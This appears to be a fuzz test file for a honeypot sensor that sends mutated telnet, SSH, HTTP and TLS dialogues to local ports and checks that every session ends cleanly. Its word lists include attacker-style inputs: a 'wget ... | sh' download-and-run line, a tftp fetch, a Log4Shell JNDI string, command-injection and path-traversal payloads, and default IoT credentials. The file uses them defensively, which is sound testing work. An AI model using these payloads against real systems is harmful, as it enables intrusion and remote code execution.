# SPDX-License-Identifier: Apache-2.0
"""Any bytes at the open doors of a sensor: every session ends, and none by a failure of our own.

`make soak` sends some thousands of mutated dialogues to each door; the normal run some dozens.
"""

from __future__ import annotations

import asyncio
import random
import re
from collections import Counter
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, suppress
from itertools import pairwise
from pathlib import Path

import pytest
from tests.sensors.conftest import Running, running

from mead.sensors.host import Limits

CAPTURES = Path(__file__).parent.parent / "captures" / "fuzz"
WORDS = {
    "telnet": (
        b"root\r\n", b"admin\r\n", b"\xff\xfb\x1f", b"\xff\xfa\x18\x00xterm\xff\xf0", b"\xff\xf4", b"\x03",
        b"\x04",
        b"cat > x\n", b"echo -ne '\\x7fELF' >> y\n", b"while read l; do echo $l; done\n", b"$((1/0))\n",
        b"`", b"'",
        b"wget http://192.0.2.1/x -O- | sh\n", b"tftp -g -r a 192.0.2.1\n", b"<<E\n", b"\nE\n",
        b"busybox ECCHI\n",
        b"dd bs=52 count=1 if=/bin/echo\n", b"exit\n", b"sh\n", b"\0", b"\xc3\x28", b"${x:-${y:=z}}\n",
        b"/bin/\n",
    ),
    "ssh": (
        b"SSH-2.0-x\r\n", b"SSH-1.5-y\n", b"\0\0\0\x0c\x0a\x14", b"\0" * 16, b"\xff" * 4,
        b"GET / HTTP/1.0\r\n\r\n",
    ),
    "http": (
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"POST /x?y=`id` HTTP/1.1\r\n", b"Content-Length: 9\r\n",
        b"Host: x\r\n",
        b"Transfer-Encoding: chunked\r\n", b"Expect: 100-continue\r\n", b"\r\n", b"5\r\nhello\r\n0\r\n\r\n",
        b"a=b&c=",
        b"Content-Type: multipart/form-data; boundary=b\r\n",
        b"--b\r\nContent-Disposition: form-data; name=f",
        b"Authorization: Basic YTpi\r\n", b"Range: bytes=0-1,5-\r\n", b"PUT /s.sh HTTP/1.0\r\n",
        b"${jndi:ldap://192.0.2.1/a}",
        b";wget${IFS}http://192.0.2.1/m;", b"If-None-Match: *\r\n", b"/../../etc/passwd", b"%00",
        b"Connection: close\r\n",
    ),
    "https": (
        bytes.fromhex("16030100310100002d0303" + "00" * 32 + "00" + "00021301" + "0100" + "0002" + "0000"),
        b"\x16\x03\x01\x00\x05", b"\x15\x03\x03\x00\x02\x01\x00", b"\x14\x03\x03\x00\x01\x01",
        b"\x17\x03\x03\x00\x04abcd",
        b"\x18\x03\x02\x00\x03\x01\x40\x00", b"\x80\x2e\x01\x00\x02", b"GET / HTTP/1.0\r\n\r\n",
        b"\x16\x03\x01\xff\xff",
    ),
}  # fmt: skip
"""What peers of each door say, to build dialogues from."""
OPENINGS = {
    "telnet": b"root\r\nvizxv\r\nroot\r\nadmin\r\n", "ssh": b"SSH-2.0-OpenSSH_9.2\r\n",
    "http": b"POST /cgi-bin/luci?a=1 HTTP/1.1\r\nHost: x\r\n", "https": b"\x16\x03\x01",
}  # fmt: skip
"""What leads behind the first check."""
SEEDS = {"telnet": "FTP_*.raw", "ssh": "*.raw", "http": "[RS][TI]*.raw", "https": "*TLS_*.raw"}
DICTIONARIES = {"telnet": "bash.dict", "ssh": "SSH*.dict", "http": "[hu][tr]*.dict", "https": "TLS*.dict"}
IDLE_SECONDS = 1.0


def tokens(pattern: str) -> list[bytes]:
    """The tokens of the dictionaries whose name fits."""
    found = [
        token for path in sorted(CAPTURES.rglob(pattern))
        for token in re.findall(rb"\"((?:[^\"\\]|\\.)*)\"", path.read_bytes()) if token
    ]  # fmt: skip
    assert found
    return [token.decode("latin-1").encode().decode("unicode_escape").encode("latin-1") for token in found]


def mutated(data: bytes, words: list[bytes], dice: random.Random) -> bytes:
    """`data` with a few places changed."""
    changed = bytearray(data)
    for _ in range(dice.randrange(1, 6)):
        place = dice.randrange(len(changed) + 1)
        match dice.randrange(5):
            case 0 | 1:
                changed[place:place] = dice.choice(words)
            case 2:
                del changed[place : place + dice.randrange(16)]
            case 3 if place < len(changed):
                changed[place] ^= 1 << dice.randrange(8)
            case _:
                changed[place:place] = changed[place : place + dice.randrange(64)]
    return bytes(changed)


def dialogues(service: str, count: int) -> Iterator[bytes]:
    """The real seeds as they are, the door's words in any order, and mutations of both."""
    dice = random.Random(f"{service} {count}")
    words = [*WORDS[service], *tokens(DICTIONARIES[service])]
    seeds = [path.read_bytes() for path in sorted((CAPTURES / "profuzzbench").glob(SEEDS[service]))]
    assert seeds
    yield from seeds
    yield b"".join(words)
    for _ in range(count):
        said = b"".join(dice.choices(WORDS[service], k=dice.randrange(1, 12)))
        begin = dice.choice([b"", *([OPENINGS[service]] * 3)])
        yield begin + mutated(dice.choice([said, said, *seeds]), words, dice)


def pieces(data: bytes, dice: random.Random) -> list[bytes]:
    ends = sorted({0, len(data), *(dice.randrange(len(data) + 1) for _ in range(dice.randrange(4)))})
    return [data[start:end] for start, end in pairwise(ends)]


async def say(port: int, data: bytes, dice: random.Random) -> None:
    """Say it, and read what comes until the door closes."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    with suppress(OSError):
        for piece in pieces(data, dice):
            writer.write(piece)
            await writer.drain()
            await asyncio.sleep(0)
        if dice.random() < 0.8:
            writer.write_eof()
        while await reader.read(65536):
            pass
    writer.close()


@asynccontextmanager
async def watched(*services: str) -> AsyncIterator[Running]:
    """A sensor of which every session must end, and none fail."""
    loop, faults = asyncio.get_running_loop(), []
    loop.set_exception_handler(lambda _, context: faults.append(context))
    limits = Limits(idle_seconds=IDLE_SECONDS)
    async with running(*services, limits=limits, seed=b"a door that is kicked at 1234567") as sensor:
        yield sensor
        opened = len(sensor.events.of("session.open"))
        await sensor.events.until("session.close", opened, seconds=20)
    assert not faults
    kinds = Counter(event.kind for event in sensor.events)
    assert kinds["loss.counted"] == 0
    assert kinds["session.open"] == kinds["session.close"]
    assert {event.session for event in sensor.events.of("session.open")} == {
        event.session for event in sensor.events.of("session.close")
    }
    assert sensor.host.desk.failed == 0


async def kick(service: str, count: int) -> None:
    dice, free = random.Random(service), asyncio.Semaphore(16)
    async with watched(service) as sensor:

        async def one(data: bytes) -> None:
            async with free, asyncio.timeout(60):
                await say(sensor.ports[service], data, dice)

        said = list(dialogues(service, count))
        await asyncio.gather(*map(one, said))
        assert len(sensor.events.of("session.open")) == len(said)


@pytest.mark.parametrize("service", WORDS)
async def test_mutated_dialogues_at_a_door(service: str) -> None:
    await kick(service, 60)


@pytest.mark.soak
@pytest.mark.timeout(3600)
@pytest.mark.parametrize("service", WORDS)
async def test_thousands_of_mutated_dialogues_at_a_door(service: str) -> None:
    await kick(service, 10_000)
